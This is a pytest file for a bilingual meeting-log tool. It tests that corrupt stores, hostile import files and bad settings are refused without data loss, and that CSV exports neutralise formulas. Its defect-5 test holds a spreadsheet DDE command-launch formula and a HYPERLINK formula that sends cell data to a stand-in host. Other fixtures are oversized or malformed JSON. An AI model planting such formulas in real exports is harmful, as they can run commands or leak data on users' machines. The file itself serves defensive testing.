"""Issue 11: the log never silently loses or alters data. One test per defect found, by number.

Each test replays what the issue reports (mostly through the ``oneonone`` command, as a user
would) and checks the opposite: the project's own message, in both languages, and a store that
is byte for byte what it was, unless the learner asked for the change.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import os
import sqlite3
import stat

import pytest
from kit_helpers import load_script, run

from oneonone_kit import env, ui
from oneonone_kit.charts import report
from oneonone_kit.errors import CorruptStoreError, ImportProblem
from oneonone_kit.insight.cohort import SummaryError, read_summary
from oneonone_kit.log import transfer
from oneonone_kit.log.calendar.read import parse_ics
from oneonone_kit.log.demo import load_demo
from oneonone_kit.log.store import Store
from oneonone_kit.model import Experiment, Meeting, Reflection
from oneonone_kit.ui import session

TODAY = dt.date(2026, 11, 22)


def sha(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def meeting(day: int, person: str = "Sam", **more) -> Meeting:
    return Meeting.create(
        today=TODAY, date=dt.date(2026, 3, day), person=person, planned_minutes=30, **more
    )


@pytest.fixture
def log_file(tmp_home):
    """A store file with three meetings, opened twice so a daily backup exists; closed."""
    with Store.open() as store:
        store.add_meetings([meeting(1, uid="m-1"), meeting(2, uid="m-2"), meeting(3, uid="m-3")])
    Store.open().close()  # an existing file is backed up when it is opened
    return env.store_path()


# ---- 1 -------------------------------------------------------------------------------------
def test_defect_1_a_zero_byte_store_is_refused_and_backups_never_rotate_into_empty_copies(
    log_file, capsys, monkeypatch
):
    backups = sorted((log_file.parent / "backups").iterdir())
    assert len(backups) == 1
    log_file.write_bytes(b"")

    for lang, words in (("en", "is empty (0 bytes)"), ("nl", "is leeg (0 bytes)")):
        code, out, err = run(capsys, "--lang", lang, "log", "list")
        assert code != 0 and out == ""
        assert words in err and str(backups[0]) in err and "Traceback" not in err
    with pytest.raises(CorruptStoreError) as refused:
        Store.open()
    assert refused.value.key == "store.empty_file"
    assert log_file.read_bytes() == b""

    # A valid log that holds nothing, opened on six more days: the good backup stays the newest.
    log_file.unlink()
    with Store.open(backup=False) as store:
        assert store.counts()["meetings"] == 0
    good = sha(backups[0])
    for day in range(23, 29):
        monkeypatch.setenv("ONEONONE_TODAY", f"2026-11-{day}")
        Store.open().close()
    assert sorted((log_file.parent / "backups").iterdir()) == backups
    assert sha(backups[0]) == good


# ---- 2 -------------------------------------------------------------------------------------
def test_defect_2_one_damaged_header_byte_is_refused_in_words_and_leaves_no_wal_files(
    log_file, capsys
):
    raw = bytearray(log_file.read_bytes())
    raw[47] = 68  # the byte: SQLite then says "unsupported file format"
    log_file.write_bytes(bytes(raw))
    before = sha(log_file)
    backup = next((log_file.parent / "backups").iterdir())

    out_dir = log_file.parent.parent
    for command in (
        ("log", "list"),
        ("export", str(out_dir / "x.json")),
        ("chart", "cadence", "--out", str(out_dir / "c.png")),
    ):
        code, out, err = run(capsys, *command)
        assert code != 0 and "Traceback" not in err and "OperationalError" not in err
        assert "is damaged" in err and str(backup) in err
    code, _, err = run(capsys, "--lang", "nl", "log", "list")
    assert code != 0 and "is beschadigd" in err
    with pytest.raises(CorruptStoreError):
        Store.open()
    assert sha(log_file) == before
    assert sorted(p.name for p in log_file.parent.iterdir()) == ["backups", log_file.name]


# ---- 3 -------------------------------------------------------------------------------------
def test_defect_3_imports_never_overwrite_or_delete_without_saying_so(tmp_home, capsys):
    with Store.open() as store:
        load_demo(store, today=TODAY)
        experiments = store.experiments()
        kept = store.meetings()[0]
    file = tmp_home.parent / "hostile.json"

    # A reflection with the demo experiment's uid: refused, named by section and item.
    reflection = Reflection.create(
        prompt="mindset.whose_meeting", text="mine", saved_at="2026-11-01T10:00:00"
    ).to_dict()
    reflection["uid"] = experiments[0].uid
    doc = {"format": "oneonone-export", "version": 1, "reflections": [reflection]}
    file.write_text(json.dumps(doc), "utf-8")
    code, out, err = run(capsys, "import", str(file))
    assert code != 0 and "Reflections, item 1" in err
    with Store.open() as store:
        assert store.experiments() == experiments

    # A meeting uid that is already there: skipped and said so; replaced only with --replace.
    changed = {**kept.to_dict(), "notes": "changed by the file"}
    file.write_text(json.dumps({"format": "oneonone-export", "version": 1, "meetings": [changed]}))
    code, out, err = run(capsys, "import", str(file))
    assert code == 0
    assert "1 of the records in this file is already in your log" in out
    assert "Imported: 0 new, 1 already there." in out
    with Store.open() as store:
        assert store.meetings()[0] == kept
    code, out, err = run(capsys, "--lang", "nl", "import", "--replace", str(file))
    assert code == 0 and "Geïmporteerd: 0 nieuw, 1 al aanwezig." in out
    assert "vervangen door de versie uit het bestand (aantal: 1)" in out
    with Store.open() as store:
        assert store.meetings()[0].notes == "changed by the file"

    # 1,000 rows with one uid: refused with their rows, and nothing is counted or stored.
    rows = "".join(f"2026-03-0{1 + i % 9},Ann,30,same-uid\r\n" for i in range(1000))
    csv_file = tmp_home.parent / "same.csv"
    csv_file.write_text("date,person,planned_minutes,uid\r\n" + rows, "utf-8")
    with Store.open() as store:
        before = store.counts()
    code, out, err = run(capsys, "import", str(csv_file))
    assert code != 0 and out == ""
    assert (
        "999 problems found" in err
        and "Row 3, ID: The ID same-uid appears more than once in this file (first at row 2)" in err
    )
    with Store.open() as store:
        assert store.counts() == before


# ---- 4 -------------------------------------------------------------------------------------
@pytest.mark.parametrize("value", ["abc", "0", "-3", "3_0", "1e3", "\u200b"])
def test_defect_4_settings_are_checked_on_import(tmp_home, capsys, value):
    Store.open().close()
    key = "person:Bo (demo):interval_days"
    file = tmp_home.parent / "settings.json"
    file.write_text(
        json.dumps({"format": "oneonone-export", "version": 1, "settings": {key: value}})
    )
    code, out, err = run(capsys, "import", str(file))
    assert code != 0 and "Settings, item 1" in err
    code, out, err = run(capsys, "--lang", "nl", "import", str(file))
    assert code != 0 and "Instellingen, item 1" in err
    with Store.open() as store:
        assert key not in store.settings()


@pytest.mark.parametrize("value", ["abc", "0"])
def test_defect_4_a_bad_stored_setting_is_ignored_with_a_warning_and_repaired(
    tmp_home, capsys, value
):
    with Store.open() as store:
        load_demo(store, today=TODAY)
    key = "person:Bo (demo):interval_days"
    # Written by an older version: every view still works, says so, and can repair it.
    conn = sqlite3.connect(env.store_path())
    conn.execute("INSERT INTO settings (key, value) VALUES (?, ?)", (key, value))
    conn.commit()
    conn.close()
    with Store.open() as store:
        assert "Bo (demo)" not in store.intervals()
        assert store.get_setting(key) is None
        assert store.bad_settings() == {key: value}
    code, out, err = run(capsys, "chart", "cadence", "--out", str(tmp_home.parent / "c.png"))
    assert code == 0 and "A stored setting is damaged and is ignored" in err
    session.reset()
    try:
        board = ui.dashboard("en")  # draws with the setting left out, and says so once
        assert board.chart.value and "The cadence stored for Bo (demo)" in board.cadence_note.value
        assert board.message.text == ""  # a damaged cadence: the note says what to do
        panel = ui.data_panel("nl")
        assert "beschadigd" in panel.settings_warning.value
        assert panel.repair.layout.display != "none"
        panel.repair.click()
        assert panel.settings_warning.value == "" and panel.repair.layout.display == "none"
        assert board.cadence_note.value == ""  # the repair is a change: the dashboard redraws
    finally:
        session.reset()
    with Store.open() as store:
        assert store.bad_settings() == {}
        assert key not in store.settings()
    code, out, _ = run(capsys, "repair")
    assert code == 0 and "nothing changed" in out


def test_defect_4_repair_from_the_command_line(tmp_home, capsys):
    Store.open().close()
    conn = sqlite3.connect(env.store_path())
    conn.execute("INSERT INTO settings VALUES ('person:Sam:interval_days', 'abc'), ('lang', 'nl')")
    conn.commit()
    conn.close()
    code, out, _ = run(capsys, "repair")
    assert code == 0 and "Damaged settings removed (1): person:Sam:interval_days" in out
    with Store.open() as store:
        assert store.settings() == {"lang": "nl"}


# ---- 5 -------------------------------------------------------------------------------------
def test_defect_5_every_text_cell_of_a_csv_export_is_protected_against_formulas(tmp_home):
    hostile = "=cmd|' /C calc'!A0"
    link = '=HYPERLINK("http://x.example/?"&A1,"click")'
    with Store.open() as store:
        # Built directly, as an older version may have stored them: import refuses such uids now.
        store.add_meetings(
            [
                Meeting(
                    date=dt.date(2026, 3, 1),
                    person="+Sam",
                    planned_minutes=30,
                    actual_minutes=30,
                    notes="@SUM(1)",
                    experiment=link,
                    uid=hostile,
                )
            ]
        )
        payload = transfer.export_csv(store)
    rows = list(csv.reader(io.StringIO(payload.decode("utf-8-sig"))))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["uid"] == "'" + hostile
    assert cells["experiment"] == "'" + link
    assert cells["person"] == "'+Sam" and cells["notes"] == "'@SUM(1)"
    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@")]


# ---- 6 -------------------------------------------------------------------------------------
def _export(**sections) -> bytes:
    return json.dumps({"format": "oneonone-export", "version": 1, **sections}).encode()


HUGE_INT = b'{"format": "oneonone-export", "version": 1, "meetings": [{"planned_minutes": 1' + (
    b"0" * 4400 + b"}]}"
)


@pytest.mark.parametrize(
    ("payload", "key"),
    [
        (b'{"a":' * 1200 + b"1" + b"}" * 1200, "import.too_deep"),
        (b"[" * 5000 + b"]" * 5000, "import.too_deep"),
        (HUGE_INT, "import.bad_number"),
        (b'{"format": "oneonone-export", "version": 1' + b"0" * 4400 + b"}", "import.bad_number"),
    ],
    ids=["nested-1200", "nested-5000", "int-4400-digits", "version-4400-digits"],
)
def test_defect_6_deep_json_and_huge_integers_are_refused_in_words(log_file, payload, key):
    before = sha(log_file)
    with Store.open() as store, pytest.raises(ImportProblem) as refused:
        transfer.import_json(store, payload, today=TODAY)
    assert refused.value.key == key
    assert refused.value.message("nl") != refused.value.message("en")
    assert sha(log_file) == before


@pytest.mark.parametrize("where", ["person", "notes", "uid", "settings"])
def test_defect_6_a_lone_surrogate_is_refused_wherever_it_is(log_file, capsys, where):
    record = {"date": "2026-03-04", "person": "Sam", "planned_minutes": 30, "notes": ""}
    settings = {}
    if where == "settings":
        settings = {"person:S\ud800m:interval_days": "7"}
    else:
        record[where] = "S\ud800m"
    file = log_file.parent.parent / "surrogate.json"
    # json.dumps writes the half pair as the escape \ud800, as a hostile file would.
    file.write_text(
        json.dumps(
            {"format": "oneonone-export", "version": 1, "meetings": [record], "settings": settings}
        ),
        "ascii",
    )
    before = sha(log_file)
    code, out, err = run(capsys, "import", str(file))
    assert code != 0 and "Traceback" not in err and "UnicodeEncodeError" not in err
    assert ("Meetings, item 1" if where != "settings" else "Settings, item 1") in err
    assert sha(log_file) == before


# ---- 7 -------------------------------------------------------------------------------------
# The records of the hostile corpus (one source); the meeting without its uid, which the store
# of ``log_file`` already holds.
CORPUS = load_script("tests/unit/hostile/make_corpus.py")
EXPERIMENT, ASSESSMENT, REFLECTION = CORPUS.EXPERIMENT, CORPUS.ASSESSMENT, CORPUS.REFLECTION
MEETING = {k: v for k, v in CORPUS.MEETING.items() if k != "uid"}
WRONG = {
    "baseline NaN": b'{"format":"oneonone-export","version":1,"experiments":[{"what":"Ask",'
    b'"start":"2026-10-01","end":"2026-11-01","metric":"talk_share","baseline":NaN}]}',
    "baseline Infinity": _export(experiments=[{**EXPERIMENT, "baseline": float("inf")}]),
    "baseline 1e308": _export(experiments=[{**EXPERIMENT, "baseline": 1e308}]),
    "taken_at year 1": _export(assessments=[{**ASSESSMENT, "taken_at": "0001-01-01T00:00:00"}]),
    "saved_at year 9999": _export(reflections=[{**REFLECTION, "saved_at": "9999-12-31T00:00:00"}]),
    "uid of 100,000 characters": _export(meetings=[{**MEETING, "uid": "u" * 100_000}]),
    "experiment of 1 MB": _export(meetings=[{**MEETING, "experiment": "e" * 1_000_000}]),
    "100,000 answer keys": _export(
        assessments=[{**ASSESSMENT, "answers": {f"k{i}": 3 for i in range(100_000)}}]
    ),
    "answer key of 1 MB": _export(assessments=[{**ASSESSMENT, "answers": {"k" * 1_000_000: 3}}]),
    "person as a list": _export(meetings=[{**MEETING, "person": ["Sam"]}]),
    "notes as a dict": _export(meetings=[{**MEETING, "notes": {"a": 1}}]),
    "uid as a number": _export(meetings=[{**MEETING, "uid": 12345}]),
    "name of one zero-width space": _export(meetings=[{**MEETING, "person": "\u200b"}]),
    "version true": json.dumps({"format": "oneonone-export", "version": True}).encode(),
    "version -7": json.dumps({"format": "oneonone-export", "version": -7}).encode(),
    "version missing": json.dumps({"format": "oneonone-export"}).encode(),
    "version 1.0": json.dumps({"format": "oneonone-export", "version": 1.0}).encode(),
    "date 2026-W01-1": _export(meetings=[{**MEETING, "date": "2026-W01-1"}]),
    "minutes 3_0": _export(meetings=[{**MEETING, "planned_minutes": "3_0"}]),
}
WRONG_CSV = {
    "duplicate column": b"date,person,planned_minutes,person\r\n2026-03-04,Sam,30,Eve\r\n",
    "cut off in the last row": b"date,person,planned_minutes,uid\r\n"
    b"2026-03-04,Sam,30,abcdef\r\n2026-03-05,Sam,30,abc",
    "minutes 3_0": b"date,person,planned_minutes\r\n2026-03-04,Sam,3_0\r\n",
    "date 2026-W01-1": b"date,person,planned_minutes\r\n2026-W01-1,Sam,30\r\n",
    "name of one zero-width space": "date,person,planned_minutes\r\n2026-03-04,\u200b,30\r\n".encode(),
}


@pytest.mark.parametrize("case", sorted(WRONG))
def test_defect_7_wrong_json_values_are_refused_not_accepted(log_file, case):
    before = sha(log_file)
    with Store.open() as store, pytest.raises(ImportProblem) as refused:
        transfer.import_json(store, WRONG[case], today=TODAY)
    assert "None" not in refused.value.full_message("en")  # not "newer version (format None)"
    assert refused.value.key != "import.newer_file"
    assert sha(log_file) == before


@pytest.mark.parametrize("case", sorted(WRONG_CSV))
def test_defect_7_wrong_csv_files_are_refused_not_accepted(log_file, case):
    before = sha(log_file)
    with Store.open() as store, pytest.raises(ImportProblem):
        transfer.import_csv(store, WRONG_CSV[case], today=TODAY)
    assert sha(log_file) == before


@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity", "1e999"])
def test_defect_7_nan_and_infinity_in_a_cohort_summary_are_refused(value):
    text = (
        '{"format": "oneonone-summary", "version": 1, "participant": "0123456789abcdef",'
        ' "log": {"meetings": 3, "held": 3, "per_four_weeks": VALUE}}'.replace("VALUE", value)
    )
    with pytest.raises(SummaryError):
        read_summary(text.encode())


def test_defect_7_an_experiment_baseline_export_stays_valid_json(tmp_home):
    with Store.open() as store:
        store.add(Experiment.create(today=TODAY, **{**EXPERIMENT, "baseline": "12,5"}))
        payload = transfer.export_json(store)
    assert json.loads(payload)["experiments"][0]["baseline"] == 12.5


# ---- 8 -------------------------------------------------------------------------------------
@pytest.mark.parametrize("suffix", [".md", ".pdf"])
def test_defect_8_reports_are_private_even_under_umask_000(tmp_path, capsys, monkeypatch, suffix):
    monkeypatch.setenv("ONEONONE_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("ONEONONE_TODAY", TODAY.isoformat())
    with Store.open() as store:
        load_demo(store, today=TODAY)
    old = os.umask(0)
    try:
        code, _, err = run(capsys, "report", "--out", str(tmp_path / f"r{suffix}"))
        path = report.write_report(tmp_path / f"direct{suffix}", [meeting(1)], today=TODAY)
        (tmp_path / f"again{suffix}").write_bytes(b"old")
        os.chmod(tmp_path / f"again{suffix}", 0o666)
        again = report.write_report(tmp_path / f"again{suffix}", [meeting(1)], today=TODAY)
    finally:
        os.umask(old)
    assert code == 0, err
    for written in (tmp_path / f"r{suffix}", path, again):
        assert stat.S_IMODE(written.stat().st_mode) == 0o600, written


# ---- 9 -------------------------------------------------------------------------------------
def test_defect_9_a_calendar_with_rdate_value_time_is_read_without_a_crash():
    payload = (
        "\r\n".join(
            [
                "BEGIN:VCALENDAR",
                "VERSION:2.0",
                "PRODID:-//hostile//EN",
                "BEGIN:VEVENT",
                "UID:rdate-time@example",
                "DTSTAMP:20261101T000000Z",
                "DTSTART:20261102T100000Z",
                "DTEND:20261102T103000Z",
                "SUMMARY:1:1 Sam",
                "RRULE:FREQ=WEEKLY;COUNT=3",
                "RDATE;VALUE=TIME:120000",
                "END:VEVENT",
                "END:VCALENDAR",
            ]
        )
        + "\r\n"
    ).encode()
    events = parse_ics(payload, dt.date(2026, 11, 1), dt.date(2026, 11, 30), tz=dt.UTC)
    assert [e.date for e in events] == [dt.date(2026, 11, d) for d in (2, 9, 16)]
    assert {e.start for e in events} == {dt.time(10, 0)}


# ---- re-import -----------------------------------------------------------------------------
def test_reimporting_an_export_into_its_own_store_changes_nothing_and_says_so(tmp_home, capsys):
    with Store.open() as store:
        load_demo(store, today=TODAY)
        store.set_interval("Sam", 14)
        counts = store.counts()
    path = env.store_path()
    for suffix in (".json", ".csv"):
        target = tmp_home.parent / f"export{suffix}"
        assert run(capsys, "export", str(target))[0] == 0
        Store.open().close()
        before = sha(path)
        code, out, err = run(capsys, "import", str(target))
        expected = sum(counts.values()) if suffix == ".json" else counts["meetings"]
        assert code == 0 and err == ""
        assert f"Imported: 0 new, {expected} already there." in out
        assert "Nothing changed." in out
        assert sha(path) == before


def _upload(panel, name: str, payload: bytes) -> None:
    panel.upload.value = (
        {
            "name": name,
            "type": "application/octet-stream",
            "size": len(payload),
            "content": memoryview(payload),
            "last_modified": dt.datetime(2026, 11, 22),
        },
    )


def test_defect_3_the_data_panel_keeps_existing_records_unless_the_learner_chooses_replace(
    tmp_home,
):
    session.reset()
    try:
        store = session.store()
        store.add_meeting(meeting(4, uid="m-4", notes="mine"))
        panel = ui.data_panel("en")
        assert panel.existing.value == "keep"
        theirs = {**store.meetings()[0].to_dict(), "notes": "the file's"}
        _upload(panel, "log.json", _export(meetings=[theirs, {**theirs, "uid": "m-5"}]))
        panel.import_button.click()
        assert "Imported: 1 new, 1 already there." in panel.message.text
        assert "kept as they are: 1" in panel.message.text
        assert {m.uid: m.notes for m in store.meetings()} == {"m-4": "mine", "m-5": "the file's"}

        panel.existing.value = "replace"
        panel.import_button.click()
        assert "Imported: 0 new, 2 already there." in panel.message.text
        assert "replaced by the file's version: 2" in panel.message.text
        assert {m.notes for m in store.meetings()} == {"the file's"}
    finally:
        session.reset()


def test_defect_2_the_pointer_skips_newer_backups_that_are_damaged_or_empty(log_file):
    folder = log_file.parent / "backups"
    good = next(folder.iterdir())
    empty = folder / f"{log_file.stem}-2026-11-23.sqlite3"
    with Store.open(empty, backup=False):
        pass  # a valid log with nothing in it
    damaged = folder / f"{log_file.stem}-2026-11-24.sqlite3"
    damaged.write_bytes(b"SQLite format 3\x00" + b"\xff" * 200)
    for age, path in enumerate((good, empty, damaged)):  # good oldest, damaged newest
        os.utime(path, (1_700_000_000 + age * 100, 1_700_000_000 + age * 100))
    raw = bytearray(log_file.read_bytes())
    raw[47] = 68
    log_file.write_bytes(bytes(raw))
    with pytest.raises(CorruptStoreError) as refused:
        Store.open()
    assert refused.value.values["backup"] == str(good)


def test_defect_4_an_export_leaves_a_damaged_setting_out_so_it_imports_again(tmp_home, capsys):
    with Store.open() as store:
        store.add_meeting(meeting(4, uid="m-4"))
        store.set_interval("Sam", 14)
    conn = sqlite3.connect(env.store_path())
    conn.execute("INSERT INTO settings VALUES ('person:Bo:interval_days', 'abc')")
    conn.commit()
    conn.close()
    target = tmp_home.parent / "all.json"
    code, out, err = run(capsys, "export", str(target))
    assert code == 0 and "person:Bo:interval_days = 'abc'" in err
    assert json.loads(target.read_text("utf-8"))["settings"] == {"person:Sam:interval_days": "14"}
    code, out, err = run(capsys, "import", str(target))
    assert code == 0 and "Imported: 0 new, 1 already there." in out


def _damage(*settings: tuple[str, str]) -> None:
    conn = sqlite3.connect(env.store_path())
    conn.executemany("INSERT INTO settings (key, value) VALUES (?, ?)", settings)
    conn.commit()
    conn.close()


@pytest.mark.parametrize("lang", ["en", "nl"])
def test_a_damaged_cadence_is_said_once_on_the_dashboard(tmp_home, lang):
    Store.open().close()
    _damage(("person:Sam:interval_days", "fortnight"))
    session.reset()
    try:
        board = ui.dashboard(lang)
        said = board.cadence_note.value + board.message.value
    finally:
        session.reset()
    where = {"en": "‘Meets every’ in ‘Your data’", "nl": "‘Gesprek om de’ onder ‘Je gegevens’"}
    assert said.count("Sam") == 1 and where[lang] in said
    assert board.message.text == ""


def test_other_damaged_settings_still_get_the_repair_warning_without_the_cadence(tmp_home):
    Store.open().close()
    _damage(("person:Sam:interval_days", "fortnight"), ("lang", "klingon"))
    session.reset()
    try:
        board = ui.dashboard("en")
    finally:
        session.reset()
    assert "The cadence stored for Sam cannot be used" in board.cadence_note.value
    assert "lang = 'klingon'" in board.message.text and "oneonone repair" in board.message.text
    assert "interval_days" not in board.message.text
